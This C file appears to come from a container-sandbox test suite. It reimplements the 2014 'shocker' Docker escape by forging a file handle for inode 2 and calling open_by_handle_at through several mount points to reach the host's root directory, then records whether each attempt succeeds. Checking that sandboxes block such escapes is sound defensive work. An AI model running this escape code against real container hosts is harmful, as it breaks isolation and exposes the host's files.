/* The "shocker" escape (Docker 2014): open_by_handle_at with a forged
 * handle for inode 2 (the root directory of an ext4/xfs filesystem) opens
 * the host's root through any fd on the same filesystem, bypassing the
 * mount namespace. It needs CAP_DAC_READ_SEARCH in the initial namespace;
 * seccomp denies the call as well. argv[1]: a host file name to look for. */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>

int main(int argc, char **argv)
{
    const char *look = argc > 1 ? argv[1] : "etc";
    struct {
        struct file_handle fh;
        unsigned char bytes[8];
    } h;
    /* FILEID_INO32_GEN (1): inode 2, generation 0. */
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1;
    unsigned ino = 2, gen = 0;
    memcpy(h.fh.f_handle, &ino, 4);
    memcpy(h.fh.f_handle + 4, &gen, 4);
    const char *mounts[] = {"/", "/sec", "/etc", "/tmp", "/dev/null"};
    for (size_t i = 0; i < sizeof mounts / sizeof *mounts; i++) {
        int m = open(mounts[i], O_RDONLY);
        if (m < 0)
            continue;
        int fd = open_by_handle_at(m, &h.fh, O_RDONLY | O_DIRECTORY);
        char what[96];
        snprintf(what, sizeof what, "open_by_handle_at(inode 2, via %s)", mounts[i]);
        int found = 0;
        if (fd >= 0) {
            DIR *d = fdopendir(fd);
            struct dirent *e;
            while (d && (e = readdir(d)))
                found |= strcmp(e->d_name, look) == 0;
            if (d)
                closedir(d);
        }
        attempt(fd >= 0, what, "%s%s", res(fd), found ? " and lists the host's root" : "");
        close(m);
    }
    /* name_to_handle_at then reopening: the first step of the attack. */
    struct {
        struct file_handle fh;
        unsigned char bytes[128];
    } own;
    own.fh.handle_bytes = 128;
    int mid;
    int r = name_to_handle_at(AT_FDCWD, "/sec", &own.fh, &mid, 0);
    attempt(0, "name_to_handle_at(/sec)", "%s (harmless alone)", res(r));
    if (r == 0) {
        int m = open("/", O_RDONLY);
        int fd = open_by_handle_at(m, &own.fh, O_RDONLY);
        attempt(fd >= 0, "open_by_handle_at(own handle)", "%s", res(fd));
    }
    return done();
}
